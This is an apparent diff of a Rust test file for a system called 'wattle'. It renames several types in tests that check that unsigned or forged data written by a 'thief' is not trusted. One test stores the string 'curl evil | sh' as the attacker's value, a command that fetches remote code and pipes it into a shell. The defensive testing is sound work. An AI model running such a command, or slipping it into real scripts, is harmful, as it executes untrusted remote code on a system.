@@ -5,9 +5,9 @@ use std::time::Duration;
 use wattle::author::{Export, Exports, Topology};
 use wattle::model::Value;
 use wattle_agent_core::content::ENVELOPE;
-use wattle_runtime::report::{Condition, Picture, roots};
+use wattle_runtime::report::{Condition, StackSnapshot, roots};
 use wattle_runtime::seed::{admit, apply, waiting};
-use wattle_runtime::space::{Content, Failure, Kind, Revision, Signer, Space, State, Status, Written};
+use wattle_runtime::space::{Content, Failure, FailureKind, Revision, Signer, Space, State, Status, Written};
 use wattle_runtime::store::MAX_DATA;
 use wattle_tests::random::Anything;
 use wattle_tests::running::Stage;
@@ -115,8 +115,8 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
     }
     let mut shown = Stack::stolen(&stack).await;
     shown = shown.operated_by(stack.options.key.signer().authority());
-    let picture = Picture::read(&shown, None).await.expect("it is shown");
-    let listed = wattle_runtime::report::contents(&shown, &picture, &["db/part/text".into()]).await;
+    let snapshot = StackSnapshot::read(&shown, None).await.expect("it is shown");
+    let listed = wattle_runtime::report::contents(&shown, &snapshot, &["db/part/text".into()]).await;
     let listed = listed.expect("it is listed");
     let Some(Written { content: Content::Failure(failure), .. }) = &listed[0] else { panic!("{listed:?}") };
     assert!(failure.message.contains("is not trusted: its server has not signed it so"), "{failure:?}");
@@ -348,7 +348,7 @@ async fn without_a_plan_no_value_of_anybody_is_shown() {
     put(&thief, "db/part/text", &plan.of(), "curl evil | sh", None).await;
     let record = thief.layout().server("db");
     let known = thief.store().get(&record).await.expect("reads").expect("it is there").data;
-    let forged = serde_json::to_vec(&wattle_runtime::space::Plan { key: None, ..plan }).expect("JSON");
+    let forged = serde_json::to_vec(&wattle_runtime::space::ServerPlan { key: None, ..plan }).expect("JSON");
     for plan in [&forged[..], b""] {
         thief.store().set(&thief.layout().plan("db"), plan, None).await.expect("the password is enough");
         for (record_is, why) in [
@@ -435,7 +435,7 @@ async fn a_failure_that_fills_a_node_keeps_nobody_from_saying_so(stack: Stack) {
     let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
     let failure = |bytes| Failure {
         component: "db/part".into(),
-        kind: Kind::Type,
+        kind: FailureKind::Type,
         message: "x".repeat(bytes),
         log: Vec::new(),
         at: wattle_agent_core::time::Time::EPOCH,
@@ -488,7 +488,7 @@ async fn nobody_is_blamed_by_another_ones_word(stack: Stack) {
     let space = space.operated_by(stack.options.key.signer().authority());
     let says = async |server: &str, component: &str, message: &str, through: &[&str]| {
         let at = "2026-01-01T00:00:00Z".parse().expect("a time");
-        let (kind, log) = (Kind::Recipe, Vec::new());
+        let (kind, log) = (FailureKind::Recipe, Vec::new());
         let through = through.iter().map(|name| (*name).into()).collect();
         let state =
             State::Failed(Failure { component: component.into(), kind, message: message.into(), log, at, through });
@@ -497,12 +497,12 @@ async fn nobody_is_blamed_by_another_ones_word(stack: Stack) {
         let path = space.layout().status(&format!("{server}/part"));
         let said = stack.signer(server).vouch(&path, &serde_json::to_vec(&status).expect("JSON"));
         operator.set(&path, &said, None).await.expect("writes");
-        let picture = Picture::read(&space, None).await.expect("it is shown");
-        let Some(Condition::Said(status)) = picture.find("web/part").map(|part| part.condition) else {
+        let snapshot = StackSnapshot::read(&space, None).await.expect("it is shown");
+        let Some(Condition::Said(status)) = snapshot.find("web/part").map(|part| part.condition) else {
             panic!("`web` says nothing")
         };
         let State::Failed(failure) = &status.state else { panic!("{status:?}") };
-        (failure.clone(), roots(&picture).iter().map(|root| format!("{:?}", root.cause)).collect::<String>())
+        (failure.clone(), roots(&snapshot).iter().map(|root| format!("{:?}", root.cause)).collect::<String>())
     };
     let (shown, why) = says("web", "db/part", "the disk is full", &["web/part"]).await;
     assert_eq!((&*shown.component, shown.through.len()), ("web/part", 0));
